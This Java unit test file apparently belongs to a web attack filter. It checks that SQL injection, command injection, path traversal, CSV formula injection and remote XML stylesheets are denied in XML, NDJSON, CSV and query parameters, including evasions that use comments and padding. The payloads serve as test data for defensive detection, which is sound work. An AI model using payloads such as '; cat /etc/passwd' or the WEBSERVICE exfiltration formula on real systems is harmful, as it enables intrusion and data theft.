package dev.portcullis.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.Verdict;
import dev.portcullis.http.RecordedWire;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Attacks are denied wherever a request carries them, and however they are torn apart there. */
class CarriersTest {

    private final Attacks attacks = Attacks.builder().build();

    private static RecordedWire post(String type, String body) {
        return RecordedWire.of("POST", "/orders")
                .with("Content-Type", type)
                .with("Content-Length", String.valueOf(body.length()))
                .body(body);
    }

    private static RecordedWire get(String target) {
        return RecordedWire.of("GET", target);
    }

    private String reason(RecordedWire wire) {
        return attacks.check(wire.view()) instanceof Verdict.Deny deny
                ? deny.evidence().reason()
                : "";
    }

    @Test
    void deniesAnAttackInXmlThatCommentsTearApart() {
        var torn = List.of(
                "<note>1' o<!-- x -->r '1'='1</note>",
                "<note>1' o<?x y?>r '1'='1</note>",
                "<note>1' o<!-- --><![CDATA[r '1']]><!-- -->='1</note>");

        assertThat(torn).allMatch(xml -> reason(post("application/xml", xml)).equals("sql-injection"));
        assertThat(reason(post("application/xml", "<note>1 o<b/>r 2</note>"))).isEmpty();
    }

    @Test
    void namesTheElementThatTheTextStandsIn() {
        var deny = (Verdict.Deny) attacks.check(
                post("text/xml", "<a><b>x</b><c>1' or<!-- --> '1'='1</c></a>").view());

        assertThat(deny.evidence().detail()).startsWith("XML element or attribute `c`");
    }

    @Test
    void readsLinesOfJson() {
        var type = "application/x-ndjson";

        assertThat(reason(post(type, "{\"a\":1}\n{\"b\":\"1' or '1'='1\"}\r\n")))
                .isEqualTo("sql-injection");
        assertThat(reason(post(type, "{\"a\":1}\n\n{\"b\":\"blue shoes\"}\n"))).isEmpty();
        assertThat(reason(post(type, "{\"a\":1}\n{\"b\"\n"))).isEqualTo("malformed-body");
    }

    @Test
    void readsSequencesOfJsonAndLinesOfProducts() {
        for (var type : List.of("application/vnd.store+ndjson", "application/vnd.store+x-ndjson")) {
            assertThat(reason(post(type, "{\"a\":1}\n{\"b\":\"1' or '1'='1\"}\n")))
                    .isEqualTo("sql-injection");
            assertThat(reason(post(type, "{\"a\":1}\n{\"b\":\"blue shoes\"}\n")))
                    .isEmpty();
        }
        assertThat(reason(post("application/json-seq", "\u001e{\n\"a\":1}\n\u001e{\"b\":\"1' or '1'='1\"}\n")))
                .isEqualTo("sql-injection");
        assertThat(reason(post("application/json-seq", "\u001e{\n\"a\":1}\n\u001e{\"b\":\"blue shoes\"}\n")))
                .isEmpty();
    }

    @Test
    void readsTheValuesOfTables() {
        for (var row : List.of(
                "7,=1+cmd|'/C calc'!A0,x",
                "7,\"=WEBSERVICE(\"\"http://x.example/\"\"&A1)\",x",
                "7,\"1' or '1'='1\"\r\n8,y,z",
                "7,\"two\nlines, and \"\"quotes\"\"\",; cat /etc/passwd")) {
            assertThat(reason(post("text/csv", "id,note,by\r\n" + row + "\r\n")))
                    .isNotEmpty();
            assertThat(reason(post("text/csv", ("id,note,by\n" + row).replace(",x", ""))))
                    .isNotEmpty();
        }
        assertThat(reason(post("text/csv", "id;note\n7;=1+cmd|'/C calc'!A0"))).isEqualTo("spreadsheet-formula");
        assertThat(reason(post("text/tab-separated-values", "id\tnote\n7\t=1+cmd|'/C calc'!A0")))
                .isEqualTo("spreadsheet-formula");
        assertThat(reason(post("text/csv", "id,note\n7,=A1*2\n8,\"O'Reilly, \"\"select\"\" books; or more\"\n9,")))
                .isEmpty();
        assertThat(reason(post("text/csv", "\"never closed,=1\n\"\""))).isEmpty();
    }

    @Test
    void namesTheColumnOfATable() {
        var deny = (Verdict.Deny)
                attacks.check(post("text/csv", "id,note\n7,1' or '1'='1").view());

        assertThat(deny.evidence().detail()).contains("`note`");
    }

    @Test
    void deniesAStyleSheetOfAnotherHost() {
        assertThat(reason(post("text/xml", "<?xml-stylesheet type=\"text/xsl\" href=\"http://x.example/a.xsl\"?><a/>")))
                .isEqualTo("xml-entity");
        assertThat(reason(post("text/xml", "<?xml-stylesheet type='text/xsl' href='//x.example/a.xsl'?><a/>")))
                .isEqualTo("xml-entity");
        assertThat(reason(post(
                        "text/xml", "<?xml-stylesheet title=\"href text/css\" href=\"http://x.example/a.xsl\"?><a/>")))
                .isEqualTo("xml-entity");
        assertThat(reason(post("text/xml", "<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?><a/>")))
                .isEmpty();
        assertThat(reason(post("text/xml", "<?xml-stylesheet type=\"text/css\" href=\"http://x.example/a.css\"?><a/>")))
                .isEmpty();
    }

    @Test
    void readsParametersByTheirNames() {
        assertThat(reason(get("/view?img=.env"))).isEqualTo("path-traversal");
        assertThat(reason(get("/view?img=avatar-7"))).isEmpty();
        assertThat(reason(get("/run?cmd=cat%20main.cfg"))).isEqualTo("exploit-path");
        assertThat(reason(get("/run?cmd=sort%20by%20name"))).isEmpty();
        assertThat(reason(get("/items?q=name%3Bid"))).isEqualTo("command-injection");
        assertThat(reason(get("/items?fields=name%3Bid"))).isEmpty();
        var form = "application/x-www-form-urlencoded";
        assertThat(reason(post(form, "_method=__construct&x=1"))).isEqualTo("exploit-path");
        assertThat(reason(post(form, "_method=put&x=__construct"))).isEmpty();
    }

    @Test
    void looksAtTheKeysInNamesOfParameters() {
        assertThat(reason(get("/orders?where[%27%20or%201%3D1%20--]=x"))).isEqualTo("sql-injection");
        assertThat(reason(get("/orders?a[b][..%2F..%2Fetc%2Fpasswd]=x"))).isEqualTo("path-traversal");
        assertThat(reason(get("/orders?a[%27%20or%201%3D1%20--"))).isEqualTo("sql-injection");
        assertThat(reason(get("/orders?filter[name]=x&ids[]=1&page[size]=2"))).isEmpty();
    }

    @Test
    void looksAtEachSegmentOfThePath() {
        assertThat(reason(get("/items/RIGHT(left(version()%2C1)%2C1)%3D5/details")))
                .isEqualTo("sql-injection");
        assertThat(reason(get("/artists/Belle%20%26%20Sebastian/albums"))).isEmpty();
    }

    @Test
    void longBlanksPushNothingApart() {
        for (var blank : List.of(" ", "\t", "\n", " \n")) {
            var padding = blank.repeat(20_000);
            assertThat(reason(post("text/plain", padding + "; cat /etc/passwd")))
                    .isEqualTo("command-injection");
            assertThat(reason(post("text/plain", "1' or" + padding + "'1'='1"))).isEqualTo("sql-injection");
            assertThat(reason(post("text/plain", "blue shoes" + padding + "and a hat")))
                    .isEmpty();
        }
    }

    @Test
    void longCommentsPushNothingApart() {
        var comment = "/*" + "a b ".repeat(6_000) + "*/";

        assertThat(reason(post("text/plain", "0 union" + comment + "select password from users")))
                .isEqualTo("sql-injection");
        assertThat(reason(post("text/plain", "/*" + " ; cat /etc/passwd\n".repeat(1_000) + "*/ a")))
                .isNotEmpty();
        assertThat(reason(post("text/plain", "blue shoes " + comment + " and a hat")))
                .isEmpty();
    }
}
